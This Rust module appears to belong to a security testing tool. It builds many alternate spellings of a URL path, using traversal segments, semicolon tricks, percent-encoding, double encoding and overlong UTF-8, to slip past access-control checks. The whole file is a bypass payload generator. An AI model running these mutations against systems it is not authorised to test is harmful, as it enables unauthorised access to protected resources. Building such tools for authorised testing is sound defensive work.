//! Other spellings of a path, as they got past other gates (X13, X14).

/// What is put behind a path.
const SUFFIXES: [&str; 26] = [
    "/", "//", "/.", "/..", "/./", "/../", "/..;/", ";", ";x", ";x=1", ".", "..", ".json", ".html",
    ".css", "/x.css", "%00", "%0a", "%0A", "%20", "%09", "%2f", "%2F", "%5c", "%3B", "~",
];

/// What is put before it.
const PREFIXES: [&str; 16] = [
    "/",
    "//",
    "/.",
    "/./.",
    "/..",
    "/%2e",
    "/%2E%2E",
    "/%2f",
    "/%5C",
    "\\",
    "/;",
    "/;x=1",
    "/health/..",
    "/prices/../..",
    "/prices;",
    "/pages/7/..;",
];

/// Every other spelling of `path` that is tried.
pub(super) fn mutations(path: &str) -> Vec<String> {
    let mut all: Vec<String> = SUFFIXES.iter().map(|suffix| format!("{path}{suffix}")).collect();
    all.extend(PREFIXES.iter().map(|prefix| format!("{prefix}{path}")));
    all.push(path.trim_start_matches('/').to_owned());
    all.push(path.to_uppercase());
    all.push(path.replacen('/', "\\", 1));
    all.push(path.replacen('/', "%2f", 1));
    all.push(path.replacen('/', "/\u{2024}/", 1));
    for (at, _) in path.match_indices('/') {
        let (before, after) = path.split_at(at + 1);
        for between in [
            "/",
            "./",
            "../",
            "%2e/",
            "%2E%2E/",
            "%2f",
            "%5c",
            ";/",
            "x/../",
            "%c0%ae/",
            "%EF%BC%8F",
        ] {
            all.push(format!("{before}{between}{after}"));
        }
        all.extend(first_letter_encoded(before, after));
    }
    all.retain(|mutated| mutated != path);
    all
}

/// `/%66olders`, `/%2566olders`, `/%C1%A6olders`: once, twice, and overlong.
fn first_letter_encoded(before: &str, after: &str) -> Vec<String> {
    let Some(letter) = after.bytes().next() else { return Vec::new() };
    let rest = &after[1..];
    let (high, low) = (0xC0 | letter >> 6, 0x80 | letter & 0x3F);
    vec![
        format!("{before}%{letter:02x}{rest}"),
        format!("{before}%{letter:02X}{rest}"),
        format!("{before}%25{letter:02x}{rest}"),
        format!("{before}%{high:02X}%{low:02X}{rest}"),
    ]
}
